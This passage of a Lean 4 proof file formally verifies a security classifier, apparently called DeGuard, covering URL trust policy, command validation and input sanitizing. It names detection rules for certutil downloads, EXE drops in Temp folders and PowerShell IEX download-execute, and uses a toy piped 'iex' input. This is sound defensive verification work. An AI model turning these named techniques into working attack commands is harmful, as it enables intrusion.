  · simp only [DeGuard._is_trusted_host, hlow, List.any_eq_true, Bool.or_eq_true,
      beq_iff_eq, List.isSuffixOf_iff_suffix]
  · simp only [DeGuard._is_deceptive_brand_in_subdomain, hlow, List.any_eq_true,
      Bool.and_eq_true, decide_eq_true_eq, Bool.not_eq_true', Bool.or_eq_false_iff,
      beq_eq_false_iff_ne, ne_eq, List.isSuffixOf_iff_suffix]
    constructor
    · rintro ⟨d, hd, hinf, hne, hsuf⟩
      refine ⟨d, hd, hinf, ?_⟩
      rintro (rfl | hs)
      · exact hne rfl
      · rw [List.isSuffixOf_iff_suffix.mpr hs] at hsuf
        simp at hsuf
    · rintro ⟨d, hd, hinf, hnot⟩
      refine ⟨d, hd, hinf, fun he => hnot (Or.inl he), ?_⟩
      cases hb : List.isSuffixOf ('.' :: d) h with
      | false => rfl
      | true => exact absurd (Or.inr (List.isSuffixOf_iff_suffix.mp hb)) hnot
  · intro m url ht
    simp [DeGuard.classify_url, ht]
  · intro m url ht hd
    simp [DeGuard.classify_url, ht, hd]
  · intro m url ht hd
    simp [DeGuard.classify_url, ht, hd, DeGuard.load_url_model, Except.map]

/-- Witness for C2: the characterizations applied at the SAFE_DOMAINS set
and the lower-case host sub.github.com, which is trusted (a genuine
subdomain of github.com). -/
theorem C2_trust_policy_witness :
    DeGuard._is_trusted_host DeGuard.SAFE_DOMAINS (DeGuard.lc "sub.github.com") = true ∧
    DeGuard.classify_url DeGuard.SAFE_DOMAINS none (DeGuard.lc "sub.github.com")
      (DeGuard.lc "https://sub.github.com/") = Except.ok "Legitimate" := by
  have hch := C2_trust_policy.1 DeGuard.SAFE_DOMAINS (DeGuard.lc "sub.github.com")
    (by decide)
  have ht : DeGuard._is_trusted_host DeGuard.SAFE_DOMAINS
      (DeGuard.lc "sub.github.com") = true :=
    hch.1.mpr ⟨DeGuard.lc "github.com", by decide, Or.inr (by decide)⟩
  exact ⟨ht, hch.2.2.1 none (DeGuard.lc "https://sub.github.com/") ht⟩

/-- C3 (code evaluation at the spec's failing scenario): on the spec's
end-to-end certutil input the malicious rule engine returns only
"Certutil Download" — the "Temp EXE Drop" rule does not match, because its
class [^\\/\n]* cannot cross the backslash between Temp and a.exe — and the
pipeline short-circuits to Malicious with the model never consulted (the
outcome is independent of the universally quantified model). -/
theorem C3_certutil_scenario_eval :
    DeGuard.apply_rules DeGuard.c3input = ["Certutil Download"] ∧
    "Temp EXE Drop" ∉ DeGuard.apply_rules DeGuard.c3input ∧
    DeGuard.reSearch DeGuard.tempExeRE
      (DeGuard.lc "\\AppData\\Local\\Temp\\x.exe") = false ∧
    (∀ (predict : List Char → String) (u : Bool),
      DeGuard.handle_cmd predict u DeGuard.c3input =
        DeGuard.CmdResult.maliciousRes ["Certutil Download"]) := by
  refine ⟨by decide, by decide, by decide, ?_⟩
  intro predict u
  cases u <;> rfl

/-- C7: `validate_cmd` returns false whenever the sanitized text is longer
than MAX_CMD_LENGTH = 8192 or contains a forbidden shell metacharacter. -/
theorem C7_validate_cmd_rejects :
    ∀ cmd : List Char,
      (DeGuard.MAX_CMD_LENGTH < (DeGuard.sanitizeStr cmd).length ∨
        ∃ c ∈ DeGuard.sanitizeStr cmd, DeGuard.badShellChar c = true) →
      DeGuard.validate_cmd cmd = false := by
  intro cmd h
  show (if ((DeGuard.sanitizeStr cmd).isEmpty ||
        decide (DeGuard.MAX_CMD_LENGTH < (DeGuard.sanitizeStr cmd).length)) = true
      then false
      else if (DeGuard.sanitizeStr cmd).any DeGuard.badShellChar = true then false
      else true) = false
  rcases h with hlen | ⟨c, hc, hbad⟩
  · rw [if_pos]
    rw [Bool.or_eq_true]
    exact Or.inr (decide_eq_true hlen)
  · by_cases h1 : ((DeGuard.sanitizeStr cmd).isEmpty ||
        decide (DeGuard.MAX_CMD_LENGTH < (DeGuard.sanitizeStr cmd).length)) = true
    · rw [if_pos h1]
    · rw [if_neg h1, if_pos (List.any_eq_true.mpr ⟨c, hc, hbad⟩)]

/-- Witness for C7: a command containing the pipe metacharacter is
rejected. -/
theorem C7_validate_cmd_rejects_witness :
    DeGuard.validate_cmd (DeGuard.lc "echo a | iex") = false :=
  C7_validate_cmd_rejects (DeGuard.lc "echo a | iex")
    (Or.inr ⟨'|', by decide, by decide⟩)

/-- C8: a missing model artifact makes `load_url_model` fail with the
RuntimeError message, and for a host resolved by neither the trusted nor
the deceptive policy `classify_url` propagates that error: no label is
produced and no fallback label is fabricated. -/
theorem C8_model_missing_fails :
    DeGuard.load_url_model none =
      Except.error "URL model not found. Run training_v3.py to generate it." ∧
    (∀ (D : List (List Char)) (host url : List Char),
      DeGuard._is_trusted_host D host = false →
      DeGuard._is_deceptive_brand_in_subdomain D host = false →
      DeGuard.classify_url D none host url =
        Except.error "URL model not found. Run training_v3.py to generate it.") := by
  refine ⟨rfl, ?_⟩
  intro D host url ht hd
  simp [DeGuard.classify_url, ht, hd, DeGuard.load_url_model, Except.map]

/-- Witness for C8: an unknown host with the configured SAFE_DOMAINS and a
missing artifact yields the error, not a label. -/
theorem C8_model_missing_fails_witness :
    DeGuard.classify_url DeGuard.SAFE_DOMAINS none (DeGuard.lc "example.net")
      (DeGuard.lc "https://example.net/") =
      Except.error "URL model not found. Run training_v3.py to generate it." :=
  C8_model_missing_fails.2 DeGuard.SAFE_DOMAINS (DeGuard.lc "example.net")
    (DeGuard.lc "https://example.net/") (by decide) (by decide)

/-- C9: `classify_cmd` returns Malicious whenever a malicious rule matches,
with no benign short-circuit (the benign stage exists only in cli.py's
handle_cmd); on a text matching both a benign and a malicious rule the two
entry points disagree: handle_cmd says benign, classify_cmd Malicious. -/
theorem C9_classify_cmd_no_benign_stage :
    (∀ (predict : List Char → String) (t : List Char),
      DeGuard.cmd_rule_check t = true →
      DeGuard.classify_cmd predict t = "Malicious") ∧
    (∀ predict : List Char → String,
      DeGuard.apply_benign_rules DeGuard.c9input = ["SCHTASKS Query"] ∧
      DeGuard.handle_cmd predict false DeGuard.c9input =
        DeGuard.CmdResult.benignRes ["SCHTASKS Query"] ∧
      DeGuard.classify_cmd predict DeGuard.c9input = "Malicious") := by
  constructor
  · intro predict t h
    simp [DeGuard.classify_cmd, h]
  · intro predict
    refine ⟨by decide, rfl, ?_⟩
    simp [DeGuard.classify_cmd, show DeGuard.cmd_rule_check DeGuard.c9input = true by decide]

/-- Witness for C9: the rule short-circuit of classify_cmd applied at the
dual-matching input. -/
theorem C9_classify_cmd_no_benign_stage_witness :
    DeGuard.classify_cmd (fun _ => "benign") DeGuard.c9input = "Malicious" :=
  C9_classify_cmd_no_benign_stage.1 (fun _ => "benign") DeGuard.c9input (by decide)

/-- C6 counterexample: the sanitizer is not idempotent.  On
e + zero-width-joiner + combining-acute the first pass removes the
zero-width joiner, leaving e + combining-acute, which the second pass's
NFKC normalization composes to é. -/
theorem C6_sanitize_not_idempotent :
    ¬ (DeGuard.sanitizeStr (DeGuard.sanitizeStr ['e', '‍', '́']) =
        DeGuard.sanitizeStr ['e', '‍', '́']) := by
  decide

/-- C10: the IEX Download-Execute rule requires a literal pipe, which the
sanitizer never removes or introduces from a pipe-free text and which
validate_cmd forbids, so on the validated path (no --unsafe) the rule can
never match and its branch is unreachable. -/
theorem C10_iex_rule_unreachable_when_validated :
    (∀ t : List Char, DeGuard.reSearch DeGuard.iexRE t = true → '|' ∈ t) ∧
    (∀ cmd : List Char, DeGuard.validate_cmd cmd = true →
      DeGuard.reSearch DeGuard.iexRE (DeGuard.sanitizeStr cmd) = false) ∧
    (∀ cmd : List Char, DeGuard.validate_cmd cmd = true →
      DeGuard.reSearch DeGuard.iexRE cmd = false) ∧
    (∀ (raw : List Char) (predict : List Char → String) (hits : List String),
      DeGuard.handle_cmd predict false raw = DeGuard.CmdResult.maliciousRes hits →
      "IEX Download-Execute" ∉ hits) := by
  have part1 : ∀ t : List Char, DeGuard.reSearch DeGuard.iexRE t = true → '|' ∈ t :=
    fun t h => DeGuard.reSearch_iex_pipe h
  have part2 : ∀ cmd : List Char, DeGuard.validate_cmd cmd = true →
      DeGuard.reSearch DeGuard.iexRE cmd = false := by
    intro cmd hv
    cases hm : DeGuard.reSearch DeGuard.iexRE cmd with
    | false => rfl
    | true =>
      have hpipe : '|' ∈ cmd := part1 cmd hm
      have hbad : (DeGuard.sanitizeStr cmd).any DeGuard.badShellChar = true :=
        List.any_eq_true.mpr ⟨'|', DeGuard.pipe_mem_sanitizeStr hpipe, by decide⟩
      exact absurd hbad (DeGuard.validate_cmd_true_no_bad hv)
  have part2a : ∀ cmd : List Char, DeGuard.validate_cmd cmd = true →
      DeGuard.reSearch DeGuard.iexRE (DeGuard.sanitizeStr cmd) = false := by
    intro cmd hv
    cases hm : DeGuard.reSearch DeGuard.iexRE (DeGuard.sanitizeStr cmd) with
    | false => rfl
    | true =>
      have hbad : (DeGuard.sanitizeStr cmd).any DeGuard.badShellChar = true :=
        List.any_eq_true.mpr ⟨'|', part1 _ hm, by decide⟩
      exact absurd hbad (DeGuard.validate_cmd_true_no_bad hv)
  refine ⟨part1, part2a, part2, ?_⟩
  intro raw predict hits hres hmem
  unfold DeGuard.handle_cmd DeGuard.handle_cmd_gen at hres
  simp only [Bool.not_false, Bool.true_and] at hres
  by_cases h1 : (DeGuard.sanitizeStr (DeGuard.stripWS raw)).isEmpty = true
  · rw [if_pos h1] at hres
    exact DeGuard.CmdResult.noConfusion hres
  · rw [if_neg h1] at hres
    by_cases h2 : DeGuard.validate_cmd (DeGuard.sanitizeStr (DeGuard.stripWS raw)) = true
    · rw [h2] at hres
      simp only [Bool.not_true, Bool.false_eq_true, if_false] at hres
      by_cases h3 :
          (!(DeGuard.apply_benign_rules
              (DeGuard.sanitizeStr (DeGuard.stripWS raw))).isEmpty) = true
      · rw [if_pos h3] at hres
        exact DeGuard.CmdResult.noConfusion hres
      · rw [if_neg h3] at hres
        by_cases h4 :
            (!(DeGuard.apply_rules
                (DeGuard.sanitizeStr (DeGuard.stripWS raw))).isEmpty) = true
        · rw [if_pos h4] at hres
          have hhits : hits =
              DeGuard.apply_rules (DeGuard.sanitizeStr (DeGuard.stripWS raw)) :=
            (DeGuard.CmdResult.maliciousRes.injEq _ _ ▸ congrArg id hres).symm ▸ rfl
          rw [hhits] at hmem
          have := DeGuard.mem_apply_rules_iex hmem
          rw [part2 _ h2] at this
          exact Bool.noConfusion this
        · rw [if_neg h4] at hres
          exact DeGuard.CmdResult.noConfusion hres
    · have h2f : DeGuard.validate_cmd (DeGuard.sanitizeStr (DeGuard.stripWS raw)) =
          false := by
        cases hvv : DeGuard.validate_cmd (DeGuard.sanitizeStr (DeGuard.stripWS raw)) with
        | false => rfl
        | true => exact absurd hvv h2
      rw [h2f] at hres
      simp only [Bool.not_false, if_true] at hres
      exact DeGuard.CmdResult.noConfusion hres

/-- Witness for C10: a harmless validated command on which the IEX rule
indeed cannot match. -/
theorem C10_iex_rule_unreachable_when_validated_witness :
    DeGuard.validate_cmd (DeGuard.lc "echo hello") = true ∧
    DeGuard.reSearch DeGuard.iexRE
      (DeGuard.sanitizeStr (DeGuard.lc "echo hello")) = false ∧
    DeGuard.reSearch DeGuard.iexRE (DeGuard.lc "echo hello") = false :=
  ⟨by decide,
   C10_iex_rule_unreachable_when_validated.2.1 (DeGuard.lc "echo hello") (by decide),
   C10_iex_rule_unreachable_when_validated.2.2.1 (DeGuard.lc "echo hello") (by decide)⟩

/-- C6 (amended): the sanitizer is total — a None or empty input yields the
empty text — and it is idempotent on printable-ASCII inputs; full
idempotence fails (see the counterexample). -/
theorem C6_sanitize_total_and_ascii_idempotent :
    DeGuard.sanitize_text none = [] ∧
    DeGuard.sanitizeStr [] = [] ∧
    (∀ x : List Char, (∀ c ∈ x, DeGuard.plainChar c = true) →
      DeGuard.sanitizeStr (DeGuard.sanitizeStr x) = DeGuard.sanitizeStr x) := by
  refine ⟨rfl, rfl, ?_⟩
  intro x hx
  have hyp : ∀ c ∈ DeGuard.sanitizeStr x, DeGuard.plainChar c = true :=
    DeGuard.plain_sanitize_chars hx
  have h1 : DeGuard.pyNFKC (DeGuard.sanitizeStr x) = DeGuard.sanitizeStr x :=
    DeGuard.plain_pyNFKC hyp
  have h2 : (DeGuard.sanitizeStr x).filter DeGuard.keepChar =
      DeGuard.sanitizeStr x :=
    List.filter_eq_self.mpr (fun c hc => DeGuard.plain_keep (hyp c hc))
  have hgood : ∀ w ∈ DeGuard.pySplit ((DeGuard.pyNFKC x).filter DeGuard.keepChar),
      w ≠ [] ∧ ∀ c ∈ w, DeGuard.isPyWS c = false :=
    DeGuard.pySplitAux_words _ [] (fun c hc => absurd hc (List.not_mem_nil c))
  have hstrip := DeGuard.stripWS_spaceJoin _ hgood
  have hx_eq : DeGuard.sanitizeStr x =
      DeGuard.spaceJoin
        (DeGuard.pySplit ((DeGuard.pyNFKC x).filter DeGuard.keepChar)) := by
    show DeGuard.stripWS (DeGuard.spaceJoin
      (DeGuard.pySplit ((DeGuard.pyNFKC x).filter DeGuard.keepChar))) = _
    exact hstrip
  show DeGuard.stripWS (DeGuard.spaceJoin (DeGuard.pySplit
      ((DeGuard.pyNFKC (DeGuard.sanitizeStr x)).filter DeGuard.keepChar))) =
    DeGuard.sanitizeStr x
  rw [h1, h2, hx_eq]
  rw [DeGuard.pySplit_spaceJoin _ hgood]
  exact hstrip

/-- Witness for C6: idempotence at a concrete ASCII input with extra
whitespace. -/
theorem C6_sanitize_total_and_ascii_idempotent_witness :
    DeGuard.sanitizeStr (DeGuard.sanitizeStr (DeGuard.lc "hello   world ")) =
      DeGuard.sanitizeStr (DeGuard.lc "hello   world ") :=
  C6_sanitize_total_and_ascii_idempotent.2.2 (DeGuard.lc "hello   world ")
    (by decide)
